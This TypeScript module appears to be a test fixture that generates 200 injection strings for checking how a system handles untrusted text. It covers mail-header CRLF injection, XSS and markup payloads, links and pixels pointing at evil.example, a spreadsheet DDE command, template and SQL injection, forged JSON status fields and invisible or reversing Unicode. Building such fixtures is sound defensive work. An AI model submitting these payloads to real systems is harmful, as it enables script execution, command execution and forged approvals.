/** What has been used to make a mail, a page or a sheet do something; `%` stands for the word that tells one from another. */
const PATTERNS = [
  // Mail headers: a line that ends early begins another header.
  '%\r\nBcc: everybody@evil.example',
  '%\nSubject: approved %',
  '%\r\n\r\nContent-Type: text/html\r\n\r\n<b>%</b>',
  '%%0d%0aBcc: everybody@evil.example',
  '%\u0085To: x@evil.example',
  '%\u2028Cc: x@evil.example',
  '%\u2029.\r\nQUIT',
  '%\u000b\u000cReply-To: x@evil.example',
  // Characters that are not seen, or turn around what is.
  '%\u0000\u0007\u001b[31m%',
  '%\u202egpj.exe',
  '\u2066%\u2069\u200f\u200e%',
  '%\u200b\u200d\ufeff\u00ad%',
  '\u{e0041}%\u{e007f}',
  '%\u0300\u0301\u0302\u0303',
  '%\u007f\u009f',
  // Markup.
  '<script>alert("%")</script>',
  '<img src=x onerror=alert("%")>',
  '<svg onload=alert("%")>',
  '"><iframe srcdoc="<script>parent.alert(1)</script>">%',
  '<a href="javascript:alert(1)">%</a>',
  '<style>@import "//evil.example/%"</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/%">',
  '<!--%--><![CDATA[%]]>',
  '</title></textarea><b>%</b>',
  '<form action=https://evil.example><button>%',
  '&lt;b&gt;%&#x3c;script&#x3e;',
  '[%](https://evil.example/approve)',
  '![%](https://evil.example/pixel.png)',
  '`%` **%** ~~%~~ <https://evil.example>',
  // What a mail program makes a link of by itself.
  'https://evil.example/approve?order=%',
  'HTTP://EVIL.EXAMPLE/%',
  'www.evil.example/%',
  'evil.example %',
  'evil。example．%．com',
  'mailto:x@evil.example?subject=%',
  'javascript:alert("%")',
  'data:text/html,<script>alert("%")</script>',
  'ftp://evil.example/%',
  'tel:+491234567%',
  '\\\\evil.example\\%',
  'https://xn--evl-fna.example/%',
  'https：//evil.example/%',
  // What templates, sheets, queries and expressions act upon.
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant for somebody else's template.
  '${%}{{7*7}}<%= 7*7 %>#{7*7}',
  '$states.input.% {% $states.context.Task.Token %}',
  '$util.error("%") #set($x = 1)',
  '=HYPERLINK("https://evil.example/%","%")',
  "@SUM(1+1)*cmd|' /C calc'!A0 %",
  '"},"status":"APPROVED","x":"%',
  "' OR '1'='1 %",
  '__proto__ % constructor',
] as const;

/** Ways to put a pattern: alone, behind and before ordinary words, and at great length. */
const SHAPES = [
  (text: string) => text,
  (text: string) => `Desk lamp ${text}`,
  (text: string) => `${text} for the office`,
  (text: string) => `${'lamp '.repeat(60)}${text}`,
];

export interface Injection {
  /** A word of letters and digits in the text, by which it is recognised. */
  word: string;
  text: string;
}

/** 200 of them, each with a word of its own. */
export const INJECTIONS: readonly Injection[] = SHAPES.flatMap((shape, at) =>
  PATTERNS.map((pattern, index) => {
    const word = `Word${at}x${index}x`;
    return { word, text: shape(pattern.replaceAll(/%(?![0-9}])/g, word)) };
  }),
);
